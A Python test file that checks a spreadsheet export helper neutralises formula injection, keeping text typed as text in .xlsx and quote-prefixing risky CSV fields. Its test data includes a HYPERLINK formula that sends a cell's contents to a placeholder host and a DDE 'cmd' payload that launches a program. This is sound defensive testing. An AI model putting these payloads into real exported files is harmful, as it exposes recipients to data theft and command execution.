"""The shared export writer: text stays text in .xlsx (typed, quotePrefix) and CSV fields get the OWASP prefix."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from question_bank.safe_cells import safe_csv_field, safe_csv_row, safe_row

LOOK_ALIKES = ['=HYPERLINK("http://x/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t名"]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_cells_keep_the_text_typed_as_text(write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    sheet.append(safe_row(sheet, [*LOOK_ALIKES, "普通", 7, -3, None, "坏\x01字符"]))
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())[0]
    assert [c.value for c in cells] == [*LOOK_ALIKES, "普通", 7, -3, None, "坏字符"]
    assert all(c.data_type != "f" for c in cells)
    assert [c.quotePrefix for c in cells[:len(LOOK_ALIKES)]] == [True] * len(LOOK_ALIKES)
    assert not cells[len(LOOK_ALIKES)].quotePrefix


def test_csv_fields_starting_like_a_formula_get_a_quote() -> None:
    assert safe_csv_row([*LOOK_ALIKES, "\r名", "普通", -3, None]) == [
        *(f"'{t}" for t in LOOK_ALIKES), "'\r名", "普通", -3, None]
    assert safe_csv_field("a=b") == "a=b"
